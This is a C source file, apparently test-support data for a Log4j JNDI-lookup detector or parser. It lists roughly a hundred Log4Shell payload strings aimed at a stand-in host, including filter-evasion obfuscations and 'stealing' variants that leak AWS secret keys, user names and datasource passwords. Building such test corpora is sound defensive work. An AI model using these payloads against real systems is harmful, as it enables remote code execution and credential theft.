/* The forms payloads were published in, and the corners of the evaluator. */
#include "support/gen_lookup.h"

static const ct_str shapes[] = {
    /* plain */
    CT_STR_INIT("${jndi:ldap://h.example/a}"),
    CT_STR_INIT("${jndi:ldap://h.example:1389/Basic/Command/Base64/aWQK}"),
    CT_STR_INIT("${jndi:ldaps://h.example/a}"),
    CT_STR_INIT("${jndi:rmi://h.example:1099/a}"),
    CT_STR_INIT("${jndi:dns://h.example/a}"),
    CT_STR_INIT("${jndi:iiop://h.example/a}"),
    CT_STR_INIT("${jndi:corba://h.example/a}"),
    CT_STR_INIT("${jndi:nis://h.example/a}"),
    CT_STR_INIT("${jndi:nds://h.example/a}"),
    CT_STR_INIT("${jndi:http://h.example/a}"),
    CT_STR_INIT("${jndi:java:comp/env/x}"),
    CT_STR_INIT("${jndi:x}"),
    CT_STR_INIT("${JNDI:ldap://h.example/a}"),
    CT_STR_INIT("${JnDi:LDAP://h.example/a}"),
    CT_STR_INIT("${ jndi:ldap://h.example/a}"),
    CT_STR_INIT("${jndi :ldap://h.example/a}"),
    CT_STR_INIT("${jndi: ldap://h.example/a}"),
    CT_STR_INIT("${jndi:}"),
    CT_STR_INIT("${jndi}"),
    CT_STR_INIT("}${jndi:ldap://h.example/a}"),
    CT_STR_INIT("{${jndi:ldap://h.example/a}}"),
    /* hidden characters */
    CT_STR_INIT("${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://h.example/a}"),
    CT_STR_INIT("${${::-j}ndi:rmi://h.example/a}"),
    CT_STR_INIT("${j${::-n}di:ldap://h.example/a}"),
    CT_STR_INIT("${jndi${::-:}ldap://h.example/a}"),
    CT_STR_INIT("${${:-j}ndi:ldap://h.example/a}"),
    CT_STR_INIT("${${:::-j}ndi:ldap://h.example/a}"),
    CT_STR_INIT("${${lower:j}ndi:ldap://h.example/a}"),
    CT_STR_INIT("${${lower:jndi}:${lower:rmi}://h.example/a}"),
    CT_STR_INIT("${${lower:J}${upper:n}${lower:${upper:d}}i:ldap://h.example/a}"),
    CT_STR_INIT("${${upper:j}${upper:n}${upper:d}${upper:i}:ldap://h.example/a}"),
    CT_STR_INIT("${${lower:${lower:jndi}}:ldap://h.example/a}"),
    CT_STR_INIT("${jnd${upper:\xc4\xb1}:ldap://h.example/a}"),
    CT_STR_INIT("${jnd\xc4\xb1:ldap://h.example/a}"),
    CT_STR_INIT("${jnd${lower:\xc4\xb0}:ldap://h.example/a}"),
    CT_STR_INIT("${jndi:ldap://h.example/${upper:\xc3\x9f\xc5\xbf\xef\xac\x83\xc5\x89\xe1\xbe\xb3}/${lower:\xce\xa3.A\xce\xa3}}"),
    CT_STR_INIT("${\xe2\x84\xaa" "8s:x:-j}${jndi:\xf0\x9f\x8c\x8a}"),
    CT_STR_INIT("${${env:NOSUCH:-j}ndi${env:NOSUCH:-:}ldap://h.example/a}"),
    CT_STR_INIT("${${env:NaN:-j}ndi${sys:NaN:-:}${lower:l}d${ctx:NaN:-a}p://h.example/a}"),
    CT_STR_INIT("${${what:ever:-j}${some:thing:-n}${other:thing:-d}${and:last:-i}:ldap://h.example/a}"),
    CT_STR_INIT("${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://h.example/a}"),
    CT_STR_INIT("${${date:'jndi:ldap:'}//h.example/a}"),
    CT_STR_INIT("${jndi:${date:'ldap'}://h.example/${date:yyyy-MM-dd}}"),
    CT_STR_INIT("${${env:BARFOO:-j}ndi:${env:A:-ldap://h.example}/a}"),
    CT_STR_INIT("${jndi:${lower:l}${lower:d}a${lower:p}://h.example/a}"),
    CT_STR_INIT("${${k8s:k5:-J}${k8s:k6:-ND}i${sd:k5:-:}ldap://h.example/a}"),
    CT_STR_INIT("${${main:x:-J}nd${spring:y:-i}${web:z:-:}${docker:c:-ldap}://h.example/a}"), /* defaults behind every prefix */
    CT_STR_INIT("${${log4j:x:-j}${marker:y:-n}${bundle:a:b:-d}${map:z:-i}:ldap://h.example/a}"),
    CT_STR_INIT("${${java:x:-j}ndi:ldap://h.example/a}"), /* and behind one that throws */
    CT_STR_INIT("${${aB:cD:E:f:-j}n${G::h:-d}i${:-:}ldap://h.example/a}"), /* made-up prefixes, of several parts */
    CT_STR_INIT("${${env:A:-${env:B:-${sys:C:-j}}}ndi:ldap://h.example/a}"), /* a default's default */
    CT_STR_INIT("${j${::-}n${::-}di:ldap://h.example/a}"), /* nothing between the letters */
    CT_STR_INIT("${${::-jn}${::-di:ldap}://h.example/a}"), /* several letters at once */
    CT_STR_INIT("${jndi:ldap://${::-h}.${lower:EXAMPLE}:${env:P:-1389}/${::-a}}"), /* the address is hidden instead */
    CT_STR_INIT("${jndi:ldap://${jndi:dns://h.example/q}.h.example/a}"), /* a call within a call's name */
    CT_STR_INIT("${base64:JHtqbmRpOmxkYXA6Ly9oL2F9}"),
    CT_STR_INIT("${${base64:ag==:-j}ndi:ldap://h.example/a}"),
    CT_STR_INIT("${lower:${::-$}{jndi:x}}"),
    CT_STR_INIT("${::-${::-$}{jndi:x}}"),
    CT_STR_INIT("${::-$}{jndi:ldap://h.example/a} ${"),
    /* escapes */
    CT_STR_INIT("$${jndi:ldap://h.example/a}"),
    CT_STR_INIT("$$${jndi:ldap://h.example/a}"),
    CT_STR_INIT("$${jndi:ldap://h.example/a} ${"),
    CT_STR_INIT("$${jndi:ldap://h.example/a} ${x}"),
    CT_STR_INIT("${foo:-$${jndi:ldap://h.example/a}}"),
    CT_STR_INIT("${lower:$${jndi:ldap://h.example/a}}"),
    CT_STR_INIT("${${::-$${::-j}}ndi:x}"),
    CT_STR_INIT("${jndi:\\-ldap://h.example/a:-z}"),
    CT_STR_INIT("${jndi:\\-ldap://h.example/a}"),
    CT_STR_INIT("${jndi:ldap:\\-//h.example/a:-z}"),
    CT_STR_INIT("${a:\\-b:\\-c:-d}"),
    CT_STR_INIT("$${${}"),
    CT_STR_INIT("$${x} ${jndi:ldap://h.example/a}"),
    CT_STR_INIT("x $${a:-$${jndi:ldap://h.example/a}} ${"),
    CT_STR_INIT("$$$$${a}${jndi:x}"),
    /* broken */
    CT_STR_INIT("${jndi:ldap://h.example/a"),
    CT_STR_INIT("${jndi:ldap://h.example/${x}"),
    CT_STR_INIT("${ ${jndi:ldap://h.example/a}"),
    CT_STR_INIT("${${jndi:ldap://h.example/a}"),
    CT_STR_INIT("${jndi:ldap://h.example/a} ${"),
    CT_STR_INIT("${jndi:ldap://h.example/a}}}}"),
    CT_STR_INIT("${jndi:ldap://h.example/a{}}"),
    CT_STR_INIT("$ {jndi:ldap://h.example/a}"),
    CT_STR_INIT("${}${:}${::}${:-}${::-}${$}${$${}}"),
    /* order, throwing, cycles */
    CT_STR_INIT("${foo:${jndi:ldap://h.example/a}}"),
    CT_STR_INIT("${jndi:a:-${jndi:b}}"),
    CT_STR_INIT("${jndi:a:-b:-c}"),
    CT_STR_INIT("${jndi:a}${jndi:b}${jndi:c}"),
    CT_STR_INIT("${java:nosuch}${jndi:ldap://h.example/a}"),
    CT_STR_INIT("${jndi:ldap://h.example/a}${java:nosuch}"),
    CT_STR_INIT("${jndi:ldap://${java:version}.h.example/a}"),
    CT_STR_INIT("${event:Message}${jndi:ldap://h.example/a}"),
    CT_STR_INIT("${jndi:ldap://${event:Level}.${event:ThreadName}.h.example/a}"),
    CT_STR_INIT("${a:-${a}}"),
    CT_STR_INIT("${a:-$${a:-x}}"),
    CT_STR_INIT("${::-$${::-$${::-j}}}"),
    CT_STR_INIT("${${::-${::-$${::-j}}}}"),
    CT_STR_INIT("${ctx:u}"),
    CT_STR_INIT("${${ctx:u}}"),
    CT_STR_INIT("${::-${ctx:u}}"),
    CT_STR_INIT("${lower:${ctx:u}}${jndi:x}"),
    CT_STR_INIT("${jndi:x}${${ctx:u}}"),
    /* stealing */
    CT_STR_INIT("${jndi:ldap://h.example/${env:AWS_SECRET_ACCESS_KEY}}"),
    CT_STR_INIT("${jndi:ldap://${env:USER}.${sys:user.name}.h.example/${hostName}}"),
    CT_STR_INIT("${jndi:dns://h.example/${env:A:-${env:B:-none}}}"),
    CT_STR_INIT("${jndi:ldap://h.example/${bundle:application:spring.datasource.password}}"),
    CT_STR_INIT("${jndi:ldap://h.example/${main:0}${marker:}${map:type}${sd:id}${log4j:configLocation}}"),
    CT_STR_INIT("${jndi:ldap://h.example/${java:os}/${java:vm}/${java:hw}/${java:locale}/${java:runtime}}"),
};

const ct_str *gen_lookup_shapes(size_t *ret_n)
{
    *ret_n = sizeof shapes / sizeof *shapes;
    return shapes;
}
